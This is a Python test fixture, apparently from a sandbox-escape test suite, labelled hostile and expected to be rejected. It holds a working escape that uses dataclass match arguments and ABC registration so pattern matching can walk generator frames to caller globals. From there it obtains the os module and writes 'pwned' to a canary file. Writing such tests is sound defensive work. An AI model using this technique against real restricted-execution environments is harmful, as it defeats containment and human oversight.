"""Hostile: match_args_frames. Dataclass fields named after frame internals become the class's match arguments; an ABC
registration makes frames and generators match, so positional class patterns read gi_frame, f_back and
f_globals without naming them as attributes. Must be rejected and contained."""
import abc
from dataclasses import dataclass


@dataclass
class Gen(abc.ABC):
    gi_frame: object


@dataclass
class Frame(abc.ABC):
    f_back: object
    f_globals: object


def run(inputs):
    holder = []

    def probe():
        match holder[0]:
            case Gen(frame):
                Frame.register(type(frame))
                spaces = []
                while frame is not None:
                    match frame:
                        case Frame(back, space):
                            spaces.append(space)
                            frame = back
                yield spaces

    holder.append(probe())
    Gen.register(type(holder[0]))
    osmod = next(space["os"] for space in next(holder[0]) if "os" in space)
    fd = osmod.open(inputs["params"]["canary"], 0o101, 0o644)
    osmod.write(fd, b"pwned")
    return {"result": "escaped"}
